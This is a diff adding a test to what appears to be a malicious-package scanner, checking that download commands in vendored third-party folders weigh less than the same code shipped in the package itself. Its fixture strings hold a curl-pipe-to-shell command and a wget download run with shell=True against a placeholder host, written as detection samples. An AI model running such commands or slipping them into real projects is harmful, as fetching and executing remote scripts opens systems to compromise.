@@ -338,3 +338,13 @@ def test_a_name_near_a_popular_one_adds_a_note_and_no_weight_without_behaviour(r
     files = {"setup.py": SETUP_HEAD + "setup(name='requestz', version='1.0')\n", "requestz/__init__.py": "VERSION = 1\n"}
     result = scan(files, rules, name="requestz")
     assert [f.points for f in result.findings if f.rule_id == "eng_typosquat"] == [1]
+
+
+def test_vendored_third_party_trees_add_up_to_little(rules):
+    script = ("import os, subprocess\nos.system('curl -sSL https://example.org/get.sh | sh')\n"
+              "subprocess.call('wget -q https://example.org/tool.tar.gz', shell=True)\n")
+    files = {f"third_party/lib{i}/tools/fetch.py": script for i in range(10)}
+    files["widgetry/__init__.py"] = ""
+    assert scan(files, rules).score <= 6
+    shipped = scan({"widgetry/__init__.py": "", "widgetry/fetch.py": script}, rules)
+    assert shipped.score > 6
